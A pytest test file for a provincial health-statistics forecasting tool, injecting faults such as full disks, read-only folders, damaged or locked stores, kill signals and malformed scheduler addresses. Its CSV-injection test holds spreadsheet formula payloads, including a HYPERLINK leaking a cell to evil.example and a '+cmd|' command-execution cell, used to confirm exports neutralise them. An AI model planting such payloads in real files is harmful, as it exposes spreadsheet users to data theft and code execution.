"""Fault injection: full disks, read-only folders, damaged and locked stores, signals, user folders.

Each case asserts the exit code, a one-line message naming the path and the fix, no traceback,
the store unchanged (or fully updated) and no user file removed. Disk-full and read-only cases
need ``mount`` (root in a container that allows it) and are skipped with the reason otherwise:
tests run as root, whom ``chmod`` does not stop.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import nbformat
import pytest
from click.testing import CliRunner

from commands import ROOT, forecast, python  # the real command in a forked child (tests/commands.py)
from forecast.cli import cli
from forecast.data import store

TIDY = ROOT / "tests" / "fixtures" / "data" / "tidy_small.csv"


def one_line_error(result: subprocess.CompletedProcess, *words: str) -> str:
    """Assert the command failed with one ``Error:`` line holding ``words`` and no traceback."""
    err = result.stderr
    assert "Traceback" not in err and "Traceback" not in result.stdout, err
    lines = [ln for ln in err.splitlines() if ln.startswith("Error:")]
    assert len(lines) == 1, err
    for w in words:
        assert w in lines[0], lines[0]
    return lines[0]


def observations(path: Path) -> list[tuple]:
    with duckdb.connect(str(path), read_only=True) as con:
        return con.execute("SELECT * FROM observations ORDER BY ALL").fetchall()


@pytest.fixture
def small_store(tmp_path) -> Path:
    path = tmp_path / "store.duckdb"
    store.import_files([TIDY], path)
    return path


@pytest.fixture(scope="module")
def real_store(tmp_path_factory) -> Path:
    """A store holding the shared provincial and national statistics (skip without them)."""
    from forecast import config

    files = [config.SHARED_DATA_DIR / f for f in ("vn_provinces.csv", "vn_national.csv")]
    if not all(f.exists() for f in files):
        pytest.skip(f"no shared data at {config.SHARED_DATA_DIR}")
    path = tmp_path_factory.mktemp("real") / "store.duckdb"
    store.import_files(files, path)
    return path


def fake_report(notebook: Path, *args: str, **kw) -> subprocess.Popen | subprocess.CompletedProcess:
    """Run ``forecast report`` in a child process on a fake run, every notebook being ``notebook``."""
    if kw.pop("background", False):  # a process of its own the test signals
        argv = [sys.executable, "-c", textwrap.dedent(DRIVER), str(notebook), *args]
        return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    return python(textwrap.dedent(DRIVER), str(notebook), *args, timeout=kw.pop("timeout", 300))


EMPTY = ROOT / "tests" / "notebooks" / "report_empty.ipynb"


@contextlib.contextmanager
def tmpfs(where: Path, size: str):
    """Mount a tmpfs of ``size`` at ``where`` (skip the test if mounting is not permitted)."""
    where.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)], capture_output=True
    )
    if done.returncode:
        pytest.skip(
            f"cannot mount a tmpfs here ({done.stderr.decode().strip()}): disk-full/read-only not tested"
        )
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def fill(folder: Path) -> None:
    """Fill the file system holding ``folder`` to the last byte."""
    with contextlib.suppress(OSError), (folder / "filler").open("wb") as f:
        while True:
            f.write(b"\0" * 65536)
            f.flush()


# --- the user's folders -----------------------------------------------------------------------


def test_a_user_folder_as_out_is_refused_and_kept(tmp_path, small_store):
    out = tmp_path / "u"
    (out / "2026Q4").mkdir(parents=True)
    (out / "2026Q4" / "thesis.docx").write_text("my thesis")
    stale = out / ".2026Q4.tmp-999999999"  # named like a dead run's work folder, but the user's
    stale.mkdir()
    (stale / "notes.txt").write_text("mine")
    result = fake_report(
        EMPTY, "--store", str(small_store), "report", "--quarter", "2026Q4", "--out", str(out)
    )
    assert result.returncode == 1
    one_line_error(result, str(out / "2026Q4"), "is not a report", "move or rename it")
    assert (out / "2026Q4" / "thesis.docx").read_text() == "my thesis"
    assert (stale / "notes.txt").read_text() == "mine"


# --- quarantine -------------------------------------------------------------------------------


def test_quarantine_is_recorded_even_when_its_file_cannot_be_written(tmp_path):
    path = tmp_path / "store.duckdb"
    store.quarantine_path(path).mkdir()  # a folder where the CSV should go: writing it fails (even as root)
    bad = tmp_path / "bad.csv"
    bad.write_text("geo,indicator,year,value\nHà Nam,imr,2015,12.5\nAtlantis,imr,2015,3\nHà Nam,imr,2016,0\n")
    summary = store.import_files([bad], path)
    assert summary.loc[0, "imported"] == 1 and summary.loc[0, "quarantined"] == 2
    recorded = store.load_quarantine(path)
    assert len(recorded) == 2 and not recorded["exported"].any()
    store.quarantine_path(path).rmdir()
    again = store.import_files([bad], path)  # a re-import exports what was recorded, adds nothing twice
    assert again.loc[0, "imported"] == 0
    assert len(store.load_quarantine(path)) == 2
    assert len(store.quarantine_path(path).read_text().splitlines()) == 3  # header + 2 rows


def test_zero_and_denormal_mortality_and_spikes_are_quarantined(tmp_path):
    path = tmp_path / "store.duckdb"
    bad = tmp_path / "typos.csv"
    rows = ["Hà Nam,imr,2010,14", "Hà Nam,imr,2011,13.6", "Hà Nam,imr,2012,13.1", "Hà Nam,imr,2013,130"]
    rows += ["Hà Nam,imr,2014,0", "Hà Nam,imr,2015,-0", "Hà Nam,u5mr,2015,1e-320"]
    bad.write_text("geo,indicator,year,value\n" + "\n".join(rows) + "\n")
    summary = store.import_files([bad], path)
    assert summary.loc[0, "imported"] == 3 and summary.loc[0, "quarantined"] == 4
    reasons = store.load_quarantine(path).set_index("value")["reason"]
    assert "implausible" in reasons["130"] and "must be positive" in reasons["0"]
    assert "must be positive" in reasons["-0"] and "denormal" in reasons["1e-320"]


def test_rate_required_is_never_infinite():
    import numpy as np

    from forecast.assess.assessment import _rates

    rates = _rates(np.array([2020.0, 2021.0]), np.array([12.0, 1e-300]), 10.0, 2030)
    assert not np.isinf(rates["rate_required"]) and not np.isinf(rates["rate_observed"])


# --- damaged, locked and missing stores --------------------------------------------------------


@pytest.mark.parametrize("damage", ["truncated", "byte-flipped"])
@pytest.mark.parametrize("command", ["status", "run", "import"])
def test_a_damaged_store_is_named_with_the_fix(tmp_path, small_store, damage, command):
    data = bytearray(small_store.read_bytes())
    if damage == "truncated":
        data = data[: len(data) // 2]
    else:
        for i in range(20000, len(data), 4096):
            data[i] ^= 0xFF
    small_store.write_bytes(bytes(data))
    args = {
        "status": ["data", "status"],
        "run": ["run", "--as-of", "2026Q4", "--province", "Hà Nam"],  # fails opening the store
        "import": ["data", "import", str(TIDY)],
    }[command]
    start = time.monotonic()
    result = forecast("--store", str(small_store), *args)
    assert result.returncode == 4, result.stderr
    one_line_error(result, str(small_store.name), "damaged", "restore it from a backup")
    assert time.monotonic() - start < 15  # not mistaken for a lock and retried
    assert small_store.read_bytes() == bytes(data)


def test_a_locked_store_is_named_with_the_fix(tmp_path, small_store, monkeypatch):
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"import duckdb, time; c = duckdb.connect({str(small_store)!r}); print('ok', flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "ok"
        monkeypatch.setattr(store, "_LOCK_TRIES", 2)
        result = CliRunner().invoke(cli, ["--store", str(small_store), "data", "import", str(TIDY)])
        assert result.exit_code == 3, result.output
        assert "is locked by another program" in result.output and "close the other program" in result.output
    finally:
        holder.kill()
        holder.wait()


def test_status_of_a_missing_store_creates_nothing(tmp_path):
    typo = tmp_path / "typo.duckdb"
    result = forecast("--store", str(typo), "data", "status")
    assert result.returncode == 1
    one_line_error(result, str(typo), "does not exist", "check the --store path")
    assert not typo.exists()


# --- full disk and read-only folders ----------------------------------------------------------


def test_import_and_run_onto_a_full_disk(tmp_path, real_store):
    with tmpfs(tmp_path / "full", "8m") as full:
        path = full / "store.duckdb"
        path.write_bytes(real_store.read_bytes())
        before = observations(path)
        fill(full)
        result = forecast(
            "--store", str(path), "data", "import", str(ROOT.parent / "shared" / "data" / "vn_provinces.csv")
        )
        if result.returncode == 0:  # DuckDB found room in its free blocks: then it is fully updated
            assert len(observations(path)) > len(before)
        else:
            assert result.returncode == 5, result.stderr
            one_line_error(result, "store.duckdb", "is full", "free some space")
            (full / "filler").unlink()
            assert observations(path) == before
            fill(full)
        result = forecast("--store", str(path), "run", "--as-of", "2026Q4", "--province", "Hà Nam")
        assert result.returncode == 5, result.stderr
        one_line_error(result, "store.duckdb", "is full", "free some space")


def test_report_onto_a_full_out(tmp_path, small_store):
    with tmpfs(tmp_path / "full", "2m") as full:
        (full / "old.txt").write_text("kept")
        fill(full)
        result = fake_report(
            EMPTY, "--store", str(small_store), "report", "--quarter", "2026Q4", "--out", str(full)
        )
        assert result.returncode == 5, result.stderr
        one_line_error(result, str(full), "free some space")
        assert sorted(p.name for p in full.iterdir()) == ["filler", "old.txt"]


def test_run_and_import_in_a_read_only_folder(tmp_path, real_store):
    with tmpfs(tmp_path / "ro", "8m") as ro:
        path = ro / "store.duckdb"
        path.write_bytes(real_store.read_bytes())
        before = observations(path)
        done = subprocess.run(["mount", "-o", "remount,ro", str(ro)], capture_output=True)
        if done.returncode:
            pytest.skip(f"cannot remount read-only: {done.stderr.decode().strip()}")
        for args in (["run", "--as-of", "2026Q4", "--province", "Hà Nam"], ["data", "import", str(TIDY)]):
            result = forecast("--store", str(path), *args)
            assert result.returncode == 6, result.stderr
            one_line_error(result, "store.duckdb", "read-only", "pass a writable path")
        assert observations(path) == before


# --- one snapshot per report -------------------------------------------------------------------


def test_an_import_during_a_report_never_reaches_its_pages(tmp_path, small_store):
    from types import SimpleNamespace

    from forecast.report.publish import quarter
    from forecast.report.publish.jobs import Job

    run = SimpleNamespace(run_id="run-none", data_fingerprint=store.data_fingerprint(small_store))
    settings = {"store": str(small_store), "jobs": 1}
    jobs = [Job("brief", "nb.ipynb", {"store": str(small_store)}, "briefs/x.html", "x")]
    work = tmp_path / "work"
    (work / "_work").mkdir(parents=True)
    [job] = quarter._read_snapshot(run, jobs, work, settings)
    snap = Path(job.reads)  # the kernel reads the snapshot; the page names the real store
    assert snap != small_store and snap.name == small_store.name
    assert job.parameters["store"] == str(small_store)
    extra = tmp_path / "extra.csv"
    extra.write_text("geo,indicator,year,value\nLâm Đồng,imr,2015,11\n")
    store.import_files([extra], small_store)  # the concurrent import
    assert store.data_fingerprint(snap) == settings["snapshot"]["data_fingerprint"] == run.data_fingerprint
    assert store.data_fingerprint(small_store) != run.data_fingerprint


# --- signals -----------------------------------------------------------------------------------

DRIVER = """
import sys
from types import SimpleNamespace
import pandas as pd
from forecast import pipeline
from forecast.report.publish import jobs
from forecast.cli import main

def fake_run(quarter_, store, provinces, **kw):
    a = pd.DataFrame({"province": ["Hà Nam"] * 2, "indicator": ["imr", "u5mr"], "kind": "outcome",
                      "verdict": "likely", "latest_value": [12.0, 15.0], "latest_year": [2020, 2020]})
    return SimpleNamespace(run_id="run-sig", as_of="2026Q4", created=pd.Timestamp("2026-11-25"),
                           data_fingerprint="x", settings={}, forecasts=pd.DataFrame(), assessments=a)

pipeline.prepare_run = fake_run
jobs.NOTEBOOKS = {k: sys.argv[1] for k in ("brief", "indicator", "overview")}
sys.argv = ["forecast", *sys.argv[2:]]
main()
"""


def _descendants(pid: int) -> set[int]:
    kids: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, ValueError, IndexError):
            kids.setdefault(int(stat.read_text().rsplit(")", 1)[1].split()[1]), []).append(
                int(stat.parent.name)
            )
    found, todo = set(), [pid]
    while todo:
        for k in kids.get(todo.pop(), []):
            found.add(k)
            todo.append(k)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
def test_a_killed_report_leaves_no_process_and_no_quarter(tmp_path, small_store, sig):
    slow = tmp_path / "slow.ipynb"
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("x = 1", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("import time\ntime.sleep(120)"),
    ]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, slow)
    out = tmp_path / "reports"
    proc = fake_report(
        slow,
        "--store",
        str(small_store),
        "report",
        "--quarter",
        "2026Q4",
        "--province",
        "Hà Nam",
        "--out",
        str(out),
        "--jobs",
        "2",
        background=True,
    )
    try:
        deadline, family = time.monotonic() + 120, set()
        while time.monotonic() < deadline:  # wait for the notebook kernels
            family |= _descendants(proc.pid)
            kernels = (
                [p for p in family if "ipykernel" in Path(f"/proc/{p}/cmdline").read_text(errors="replace")]
                if family
                else []
            )
            if len(kernels) >= 2:
                break
            time.sleep(0.5)
        else:
            pytest.fail("the report never started its kernels")
        time.sleep(1)
        family |= _descendants(proc.pid)
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=30)
        time.sleep(10)
        left = [p for p in family if _alive(p)]
        assert not left, f"orphans after 10 s: {left}"
        assert proc.returncode == -sig if sig == signal.SIGKILL else proc.returncode == 128 + sig, err
        if sig == signal.SIGTERM:
            assert "Traceback" not in err and "nothing was published" in err
        assert not (out / "2026Q4").exists()
    finally:
        with contextlib.suppress(ProcessLookupError):
            proc.kill()
        for p in _descendants(proc.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(p, signal.SIGKILL)


def test_the_manifest_records_the_snapshot(tmp_path, small_store):
    out = tmp_path / "r"
    result = fake_report(
        EMPTY, "--store", str(small_store), "report", "--quarter", "2026Q4", "--out", str(out), "--jobs", "1"
    )
    assert result.returncode == 0, result.stderr
    manifest = json.loads((out / "2026Q4" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["generator"] == "forecast-workbench"
    snap = manifest["settings"]["snapshot"]
    assert snap["source"] == str(small_store) and snap["data_fingerprint"] == store.data_fingerprint(
        small_store
    )


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_overview_of_a_run_without_targets_says_there_is_nothing_to_assess(tmp_path, small_store, lang):
    """A run whose provinces have no outcome target (none in the registry, no national plan)."""
    import papermill as pm

    from forecast import config, pipeline
    from forecast.registry.targets import load_targets
    from forecast.report.pages.text import t

    empty = load_targets().iloc[0:0]
    for quarter_ in ("2026Q3", "2026Q4"):  # a previous run too: the changes section compares them
        run = pipeline.prepare_run(
            quarter_, small_store, provinces=["Hà Nam"], targets=empty, national_for=[]
        )
    assert run.assessments.empty and "verdict" in run.assessments
    nb = pm.execute_notebook(
        str(config.NOTEBOOKS_DIR / "overview.ipynb"),
        str(tmp_path / "overview.ipynb"),
        parameters={"store": str(small_store), "lang": lang, "quarter": "2026Q4"},
        progress_bar=False,
        kernel_name="python3",
        execution_timeout=600,  # a hung cell fails the test, never stalls CI
    )
    outputs = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs]
    assert not [o for o in outputs if o.get("output_type") == "error"]
    html = "\n".join(o.get("data", {}).get("text/html", "") for o in outputs)
    assert t("nothing_to_assess", lang) in html
    assert t("p_attain_dist", lang) not in html  # no empty chart


def test_d9_a_target_year_before_all_data_is_never_achieved_without_an_observation(shared_data):
    """D9 (issue #20): a target year before the series starts gave "achieved" with P 0.00 and the
    reason "interpolated". The verdict now rests on the first observation after the target year,
    named with its year, and P agrees with it."""
    import math

    import pandas as pd

    from forecast.assess import assessment

    raw = pd.read_csv(shared_data / "vn_provinces.csv")
    imr = raw[(raw["geo"] == "Hà Nam") & (raw["indicator"] == "imr")].sort_values("year")
    first_year, first = int(imr["year"].iloc[0]), float(imr["value"].iloc[0])
    latest = float(imr["value"].iloc[-1])
    targets = pd.DataFrame(
        [
            dict(
                plan_id="p", province="Hà Nam", indicator="imr", year=first_year - 5, comparator="<=", value=v
            )
            | dict(value_high=math.nan, unit="per_1000", kind="outcome", note="", quote="")
            for v in (first + 1.0, latest / 2)  # met by the first observation; met by none
        ]
    )
    out = assessment.assess_targets(targets, imr, pd.DataFrame(), "2026Q4", national=pd.DataFrame())
    met, never = out.iloc[0], out.iloc[1]
    assert (met.verdict, met.p_attain, met.observed_year) == ("achieved", 1.0, first_year)
    assert met.observed_value == pytest.approx(first) and met.timing == "observed"
    assert (never.verdict, never.p_attain) == ("missed", 0.0)
    for r in (met, never):
        assert "interpolated" not in r.reason
        assert r.verdict != "achieved" or r.p_attain == 1.0
    assert f"the first one after it ({first_year})" in never.reason


# --- issue #20: nothing lost, nothing forged ---------------------------------------------------

SHARED = ROOT.parent / "shared" / "data"
POPULATION = SHARED / "gso_pxweb" / "Average population by province 2017-2020.csv"


def table_hashes(path: Path) -> dict[str, str]:
    """SHA-256 of every table's rows, by table: the store's content, whatever its pages hold."""
    with duckdb.connect(str(path), read_only=True) as con:
        names = con.execute(
            "SELECT table_name FROM duckdb_tables() WHERE database_name = current_database() ORDER BY 1"
        ).fetchall()
        return {
            n: hashlib.sha256(
                repr(con.execute(f'SELECT * FROM "{n}" ORDER BY ALL').fetchall()).encode()
            ).hexdigest()
            for (n,) in names
        }


def file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def store_copy(tmp_path, real_store) -> Path:
    """A private copy of the store of real statistics (its tables may be compared before and after)."""
    path = tmp_path / "store.duckdb"
    shutil.copyfile(real_store, path)
    return path


@pytest.fixture
def series_csv(tmp_path) -> Path:
    """A copy of the real national series (tidy CSV), the input of a back-test."""
    if not (SHARED / "vn_national.csv").exists():
        pytest.skip(f"no shared data at {SHARED}")
    path = tmp_path / "series.csv"
    shutil.copyfile(SHARED / "vn_national.csv", path)
    return path


def test_backtest_out_never_replaces_the_store_or_its_input(tmp_path, store_copy, series_csv):
    """D1: `backtest --out store.duckdb` wrote CSV text over the store (41,595 rows gone, exit 0)."""
    before, text = table_hashes(store_copy), file_hash(series_csv)
    mine = tmp_path / "mine.csv"
    mine.write_text("my own table\n")
    for out, force, words in [
        (store_copy, False, ["--out", "store.duckdb", "never written over"]),
        (store_copy, True, ["--out", "store.duckdb", "never written over"]),
        (series_csv, True, ["--out", "series.csv", "never written over"]),
        (mine, False, ["mine.csv", "already exists", "--force"]),
        (Path(os.devnull), True, ["not a plain file"]),
    ]:
        args = ["--store", str(store_copy), "backtest", "--input", str(series_csv), "--origin", "2013"]
        args += ["--horizon", "3", "--out", str(out)] + (["--force"] if force else [])
        start = time.monotonic()
        result = forecast(*args)
        assert result.returncode == 1, result.stderr
        one_line_error(result, *words)
        assert time.monotonic() - start < 30  # refused before the back-test ran
    assert table_hashes(store_copy) == before and file_hash(series_csv) == text
    assert mine.read_text() == "my own table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.csv", "series.csv", "store.duckdb"]


def test_backtest_force_replaces_a_plain_file_only(tmp_path, series_csv):
    """D1: --force replaces the user's own earlier output, atomically, and no temporary file stays."""
    out = tmp_path / "bt.csv"
    out.write_text("old\n")
    args = ["backtest", "--input", str(series_csv), "--origin", "2013", "--horizon", "2", "--models", "naive"]
    result = forecast("--store", str(tmp_path / "s.duckdb"), *args, "--out", str(out), "--force")
    assert result.returncode == 0, result.stderr
    assert out.read_text().startswith("geo,indicator,model,year")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bt.csv", "series.csv"]  # no store made either


def test_run_out_existing_is_refused_before_any_work(tmp_path, store_copy):
    """D10: `run --out EXISTING` refused after 66 s of forecasting, and the run was saved anyway."""
    before = table_hashes(store_copy)
    existing = tmp_path / "assessments.csv"
    existing.write_text("kept\n")
    for extra in (["--out", str(existing)], ["--scenario", "national", "--scenario-out", str(existing)]):
        start = time.monotonic()
        result = forecast(
            "--store", str(store_copy), "run", "--as-of", "2026Q4", "--province", "Hà Nam", *extra
        )
        assert result.returncode == 1, result.stderr
        one_line_error(result, "assessments.csv", "already exists")
        assert time.monotonic() - start < 30
    same = [
        "--out",
        str(tmp_path / "a.csv"),
        "--scenario",
        "national",
        "--scenario-out",
        str(tmp_path / "a.csv"),
    ]
    result = forecast("--store", str(store_copy), "run", "--as-of", "2026Q4", *same)
    one_line_error(result, "both name")
    assert table_hashes(store_copy) == before and existing.read_text() == "kept\n"


def _cut(tmp_path: Path, name: str, data: bytes) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    path = folder / POPULATION.name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    "cut",
    ["in the last number", "in the last number, newline added", "mid-line", "mid-line, newline added"],
)
def test_a_truncated_pxweb_export_forges_no_value(tmp_path, cut):
    """D2: the population table cut inside Hà Nam's 861.83 imported 86.0 as its 2020 population."""
    if not POPULATION.exists():
        pytest.skip(f"no shared data at {SHARED}")
    data = POPULATION.read_bytes()
    at = data.index(b"861.83")
    stop = at + 2 if "number" in cut else at - 1
    mutilated = data[:stop] + (b"\r\n" if "newline" in cut else b"")
    path = tmp_path / "store.duckdb"
    summary = store.import_files([_cut(tmp_path, "cut", mutilated)], path)
    rows = observations(path)
    hanam = [r for r in rows if r[0] == "Hà Nam"]
    assert hanam == []  # the cut row is quarantined whole: no 86, no 854.5 of a cut line either
    assert summary.loc[0, "imported"] == 40 and summary.loc[0, "missing"] == 0
    assert summary.loc[0, "quarantined"] == 4 and "truncated file: 4" in summary.loc[0, "reasons"]
    reasons = store.load_quarantine(path)["reason"]
    assert reasons.str.contains("the file may be truncated").all()


def test_a_last_value_ten_times_off_its_series_is_quarantined(tmp_path):
    """D2: the plausibility rule also catches a file's last value 10x off its series' level."""
    if not POPULATION.exists():
        pytest.skip(f"no shared data at {SHARED}")
    data = POPULATION.read_bytes()
    end = data.index(b"\r\n", data.index(b"861.83"))
    mutilated = data[:end].replace(b"861.83", b"86.18") + b"\r\n"  # a cut the digits rule cannot see
    path = tmp_path / "store.duckdb"
    summary = store.import_files([_cut(tmp_path, "cut", mutilated)], path)
    assert summary.loc[0, "quarantined"] == 1 and "implausible value: 1" in summary.loc[0, "reasons"]
    assert [r[3] for r in observations(path) if r[0] == "Hà Nam"] == [839.8, 847.1, 854.5]
    [reason] = store.load_quarantine(path)["reason"]
    assert "86.18" in reason and "last value" in reason and "847.1" in reason


def _foreign(path: Path) -> Path:
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE sales AS SELECT range AS id, range * 2.5 AS amount FROM range(1000)")
    return path


@pytest.mark.parametrize(
    "args",
    [
        ["data", "show", "--geo", "Hà Nam"],
        ["data", "status"],
        ["data", "import", "TIDY"],
        ["run", "--as-of", "2026Q4", "--province", "Hà Nam"],
        ["report", "--quarter", "2026Q4", "--province", "Hà Nam"],
        ["suggest", "--province", "Hà Nam"],
        ["data", "fetch", "worldbank"],
        ["data", "template", "--province", "Hà Nam", "--out", "OUT"],
    ],
)
@pytest.mark.parametrize("kind", ["tables", "empty"])
def test_a_duckdb_file_that_is_not_a_store_is_never_written(tmp_path, args, kind):
    """D5: `data show`/`status` added the workbench's tables to any DuckDB file; `run` filled it."""
    path = tmp_path / "analysis.duckdb"
    _foreign(path) if kind == "tables" else duckdb.connect(str(path)).close()
    before = file_hash(path)
    args = [{"TIDY": str(TIDY), "OUT": str(tmp_path / "hanam.xlsx")}.get(a, a) for a in args]
    extra = ["--out", str(tmp_path / "r")] if args[0] == "report" else []
    result = forecast("--store", str(path), *args, *extra)
    assert result.returncode == 4, result.stderr
    one_line_error(result, "analysis.duckdb", "not a workbench store", "left as it is")
    assert file_hash(path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["analysis.duckdb"]  # no quarantine CSV, no report


@pytest.mark.parametrize(
    "damage, words",
    [
        ("DROP TABLE imports", "imports table is missing"),
        ("ALTER TABLE observations ALTER year TYPE VARCHAR", "observations.year is VARCHAR"),
        ("ALTER TABLE observations DROP COLUMN value", "observations.value is missing"),
        ("UPDATE schema_version SET version = 99", "schema version 99"),
        ("UPDATE schema_version SET generator = 'other'", "does not name this workbench"),
    ],
)
def test_a_store_of_a_damaged_or_unknown_schema_is_refused(store_copy, damage, words):
    """D7: a store without its imports table was recreated (import ids restarting at 1); year VARCHAR accepted."""
    with duckdb.connect(str(store_copy)) as con:
        con.execute(damage)
    before = table_hashes(store_copy)
    for args in (["data", "import", str(TIDY)], ["data", "status"], ["run", "--as-of", "2026Q4"]):
        result = forecast("--store", str(store_copy), *args)
        assert result.returncode == 4, result.stderr
        one_line_error(result, "store.duckdb", words)
    assert table_hashes(store_copy) == before


@pytest.mark.parametrize("age", ["version 1", "before quality and quarantine"])
def test_a_store_of_an_earlier_version_opens_and_is_upgraded_in_place(store_copy, age):
    """A store made before the schema version existed (its tables intact) still opens: read as it is,
    upgraded in place by the first write."""
    with duckdb.connect(str(store_copy)) as con:
        con.execute("DROP TABLE schema_version")
        if age != "version 1":
            con.execute("DROP TABLE quarantine")
            con.execute("ALTER TABLE observations DROP COLUMN quality")
    before, rows = table_hashes(store_copy), observations(store_copy)
    status = forecast("--store", str(store_copy), "data", "show", "--geo", "Hà Nam", "--indicator", "imr")
    assert status.returncode == 0, status.stderr
    assert table_hashes(store_copy) == before  # a read upgrades nothing
    result = forecast("--store", str(store_copy), "data", "import", str(TIDY))
    assert result.returncode == 0, result.stderr
    with duckdb.connect(str(store_copy), read_only=True) as con:
        assert con.execute("SELECT generator, version FROM schema_version").fetchall() == [
            ("forecast-workbench", store.SCHEMA_VERSION)
        ]
        kept = con.execute(
            "SELECT geo, indicator, year, value, unit, source, note, import_id, line FROM observations "
            "WHERE import_id <= (SELECT max(import_id) - 1 FROM imports) ORDER BY ALL"
        ).fetchall()
    assert kept == sorted(r[:9] for r in rows)  # every earlier row kept as it was


@pytest.fixture
def web_server():
    """A web server on 127.0.0.1 (`python -m http.server`): a service that is not a Dask scheduler."""
    server = subprocess.Popen(
        [sys.executable, "-u", "-m", "http.server", "0", "--bind", "127.0.0.1"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        port = re.search(r"port (\d+)", server.stdout.readline()).group(1)
        yield f"tcp://127.0.0.1:{port}"
    finally:
        server.kill()
        server.wait()


def _report_with(store_path: Path, out: Path, *args: str) -> tuple[subprocess.CompletedProcess, float]:
    start = time.monotonic()
    args = ("--store", str(store_path), "report", "--quarter", "2026Q4", "--out", str(out), *args)
    result = fake_report(EMPTY, *args, timeout=120)
    return result, time.monotonic() - start


def test_a_scheduler_that_is_not_dask_fails_within_its_timeout(tmp_path, small_store, web_server):
    """D3: a web server as --scheduler showed 0/14 for seven minutes, with no message."""
    before, out = table_hashes(small_store), tmp_path / "reports"
    result, took = _report_with(small_store, out, "--scheduler", web_server, "--scheduler-timeout", "3")
    assert result.returncode == 1, result.stderr
    one_line_error(result, web_server, "within 3 s", "handshake")
    assert took < 60  # 3 s of waiting, the rest is starting Python under load; no wait on exit
    assert not out.exists() and table_hashes(small_store) == before


@pytest.mark.parametrize("address", ["foo://x", "file:///etc/passwd", "tcp://[::1"])
def test_a_malformed_scheduler_address_is_one_line_at_once(tmp_path, small_store, address):
    """D4: these printed a Python traceback, then waited 60 s more."""
    result, took = _report_with(small_store, tmp_path / "reports", "--scheduler", address)
    assert result.returncode == 1, result.stderr
    one_line_error(result, address, "is not a Dask scheduler address", "tcp://HOST:PORT")
    assert took < 45 and not (tmp_path / "reports").exists()


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _risky_cells(rows: list[list[str]]) -> list[str]:
    from forecast.outputs import risky

    return [c for row in rows for c in row if risky(c)]


def test_imported_text_never_runs_as_a_formula(tmp_path):
    """D6: a source starting with '=' became a live formula in briefs/<province>.series.xlsx, and the
    quarantine CSV wrote such cells raw (OWASP CSV injection). Negative numbers stay numbers."""
    import csv

    import openpyxl
    import pandas as pd

    from forecast.report.publish import downloads

    if not (SHARED / "vn_provinces.csv").exists():
        pytest.skip(f"no shared data at {SHARED}")
    real = pd.read_csv(SHARED / "vn_provinces.csv")
    mine = real[(real["geo"] == "Hà Nam") & (real["indicator"] == "imr")].assign(source=EVIL)
    bad = mine.head(3).assign(geo=["=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0"], year=[2001, 2002, 2003])
    path, edited = tmp_path / "store.duckdb", tmp_path / "edited.csv"
    pd.concat([mine, bad]).to_csv(edited, index=False)
    summary = store.import_files([edited], path)
    assert summary.loc[0, "imported"] == len(mine) and summary.loc[0, "quarantined"] == 3
    with store.quarantine_path(path).open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert not _risky_cells(rows) and {"'=1+2", "'@SUM(A1)"} <= {c for r in rows for c in r}
    obs = store.load_observations(path, "Hà Nam", "imr")
    assert set(obs["source"]) == {EVIL}  # the store keeps what was imported
    table = downloads.series_table([("IMR", obs, pd.DataFrame(), pd.DataFrame())]).assign(
        rate=-3.25, rate_text="-3.25"
    )
    csv_file, xlsx_file = downloads.write_table(table, tmp_path / "ha-nam.series")
    with csv_file.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert not _risky_cells(rows) and rows[1][rows[0].index("rate")] == "-3.25"
    assert rows[1][rows[0].index("source")] == "'" + EVIL
    sheet = openpyxl.load_workbook(xlsx_file).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    first = [c for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first[header.index("source")].value == EVIL and first[header.index("source")].data_type == "s"
    assert first[header.index("rate")].value == -3.25 and first[header.index("rate")].data_type == "n"


def _real_rows(geo: str, indicator: str):
    import pandas as pd

    if not (SHARED / "vn_provinces.csv").exists():
        pytest.skip(f"no shared data at {SHARED}")
    real = pd.read_csv(SHARED / "vn_provinces.csv")
    return real[(real["geo"] == geo) & (real["indicator"] == indicator)].reset_index(drop=True)


def test_a_store_path_that_is_not_utf8_is_one_line(tmp_path):
